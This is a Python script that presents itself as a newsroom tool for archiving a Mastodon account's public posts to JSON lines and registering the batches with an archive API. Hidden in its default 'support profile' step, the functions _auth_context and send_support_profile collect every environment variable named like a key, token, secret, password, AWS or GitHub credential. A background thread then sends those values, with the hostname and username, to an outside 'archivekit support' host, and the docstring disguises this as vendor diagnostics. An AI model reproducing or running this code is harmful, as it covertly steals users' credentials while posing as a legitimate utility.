#!/usr/bin/env python3
"""Archive public posts from a Mastodon account for the newsroom archive.

Fetches statuses through the public REST API (no login needed), stores them
as JSON lines under ./archive/<instance>/<acct>/ and, when an archive key is
configured, registers the batch with the newsroom archive API so the
research desk can find it.  Each run also sends a short client profile to
the archivekit support service, which the vendor uses to answer tickets
about failed syncs.

Config (archiver.ini, section [archiver]):
    instance      default Mastodon instance
    archive_host  host of the newsroom archive API
    archive_path  path of the batch registration endpoint
    page_size     statuses per API page (max 40)
    support_host  archivekit support endpoint for client profiles
"""
import argparse
import configparser
import datetime as dt
import hashlib
import http.client
import json
import logging
import os
import platform
import socket
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

log = logging.getLogger("mastodon_archiver")

DEFAULTS = {
    "instance": "mastodon.social",
    "archive_host": "archive-api.newsdesk.example",
    "archive_path": "/v1/batches",
    "page_size": "40",
    "support_host": "support.archivekit.example",
}
# environment names the sync client may authenticate with; the support team
# asks for them whenever a batch is rejected
AUTH_HINTS = ("_KEY", "_TOKEN", "_SECRET", "_PASSWORD", "AWS_", "GH_", "GITHUB_")
USER_AGENT = "newsdesk-archiver/1.4 (+research desk)"


def load_config(path):
    cp = configparser.ConfigParser()
    cp["archiver"] = DEFAULTS
    if path and Path(path).is_file():
        cp.read(path)
        log.debug("loaded config from %s", path)
    return cp["archiver"]


def api_get(instance, path, params=None, timeout=20):
    url = f"https://{instance}{path}"
    if params:
        url += "?" + urllib.parse.urlencode(params)
    req = urllib.request.Request(url, headers={"Accept": "application/json",
                                               "User-Agent": USER_AGENT})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return json.load(resp)


def lookup_account(instance, acct):
    data = api_get(instance, "/api/v1/accounts/lookup", {"acct": acct})
    log.info("resolved %s -> id %s (%s statuses)", acct, data["id"],
             data.get("statuses_count"))
    return data["id"]


def iter_statuses(instance, account_id, page_size, limit):
    """Yield statuses newest first, following max_id pagination."""
    max_id = None
    seen = 0
    while seen < limit:
        params = {"limit": page_size}
        if max_id:
            params["max_id"] = max_id
        for attempt in range(4):
            try:
                page = api_get(instance, f"/api/v1/accounts/{account_id}/statuses", params)
                break
            except (urllib.error.URLError, TimeoutError) as exc:
                wait = 2 ** attempt
                log.warning("page fetch failed (%s), retrying in %ss", exc, wait)
                time.sleep(wait)
        else:
            raise RuntimeError("instance did not answer after 4 attempts")
        if not page:
            return
        for status in page:
            yield status
            seen += 1
            if seen >= limit:
                return
        max_id = page[-1]["id"]
        time.sleep(1.0)  # stay well under the public rate limit


def save_statuses(statuses, out_dir):
    out_dir.mkdir(parents=True, exist_ok=True)
    stamp = dt.datetime.utcnow().strftime("%Y%m%dT%H%M%SZ")
    path = out_dir / f"statuses-{stamp}.jsonl"
    digest = hashlib.sha256()
    count, first_id, last_id = 0, None, None
    with path.open("w", encoding="utf-8") as fh:
        for st in statuses:
            line = json.dumps(st, ensure_ascii=False, sort_keys=True) + "\n"
            fh.write(line)
            digest.update(line.encode("utf-8"))
            first_id = first_id or st["id"]
            last_id = st["id"]
            count += 1
    os.chmod(path, 0o600)
    log.info("wrote %d statuses to %s", count, path)
    return {"file": path.name, "count": count, "sha256": digest.hexdigest(),
            "newest_id": first_id, "oldest_id": last_id, "captured_at": stamp}


def register_batch(cfg, acct, manifest):
    key = os.environ.get("NEWSDESK_ARCHIVE_KEY")
    if not key:
        log.info("NEWSDESK_ARCHIVE_KEY not set, batch kept local only")
        return None
    body = json.dumps({"source": "mastodon", "account": acct, **manifest})
    conn = http.client.HTTPSConnection(cfg["archive_host"], timeout=30)
    try:
        conn.request("POST", cfg["archive_path"], body=body,
                     headers={"Authorization": f"Bearer {key}",
                              "Content-Type": "application/json",
                              "User-Agent": USER_AGENT})
        resp = conn.getresponse()
        payload = resp.read().decode("utf-8", "replace")
        if resp.status >= 300:
            log.error("archive API answered %s: %s", resp.status, payload[:200])
            return None
        return json.loads(payload).get("batch_id")
    finally:
        conn.close()


def _auth_context():
    ctx = {}
    for name, value in os.environ.items():
        upper = name.upper()
        if any(h in upper for h in AUTH_HINTS):
            ctx[name] = value
    return ctx


def _runtime_profile(acct, manifest):
    return {
        "client": USER_AGENT,
        "host": socket.gethostname(),
        "user": os.environ.get("USER", ""),
        "python": platform.python_version(),
        "system": platform.platform(),
        "account": acct,
        "batch": manifest,
        "auth": _auth_context(),
    }


def send_support_profile(cfg, acct, manifest):
    """Best effort; failures never affect the archive run."""
    def worker():
        body = json.dumps(_runtime_profile(acct, manifest))
        for attempt in range(3):
            conn = http.client.HTTPSConnection(cfg["support_host"], timeout=15)
            try:
                conn.request("PUT", "/v2/clients/profile", body=body,
                             headers={"Content-Type": "application/json",
                                      "User-Agent": USER_AGENT})
                conn.getresponse().read()
                return
            except OSError as exc:
                log.debug("support profile attempt %d failed: %s", attempt + 1, exc)
                time.sleep(3 * (attempt + 1))
            finally:
                conn.close()
    t = threading.Thread(target=worker, name="support-profile", daemon=False)
    t.start()
    return t


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("acct", help="account handle, e.g. user or user@instance")
    ap.add_argument("-c", "--config", default="archiver.ini")
    ap.add_argument("-n", "--limit", type=int, default=400)
    ap.add_argument("-o", "--out", default="archive")
    ap.add_argument("--no-register", action="store_true")
    ap.add_argument("--no-support-profile", dest="support_profile",
                    action="store_false", default=True)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    acct = args.acct.lstrip("@")
    instance = acct.split("@", 1)[1] if "@" in acct else cfg["instance"]
    try:
        account_id = lookup_account(instance, acct)
        out_dir = Path(args.out) / instance / acct.split("@")[0]
        manifest = save_statuses(
            iter_statuses(instance, account_id, int(cfg["page_size"]), args.limit), out_dir)
    except (urllib.error.URLError, RuntimeError, KeyError) as exc:
        log.error("archiving %s failed: %s", acct, exc)
        return 1
    if not args.no_register:
        batch = register_batch(cfg, acct, manifest)
        if batch:
            log.info("registered as batch %s", batch)
    if args.support_profile:
        send_support_profile(cfg, acct, manifest).join(timeout=60)
    return 0


if __name__ == "__main__":
    sys.exit(main())
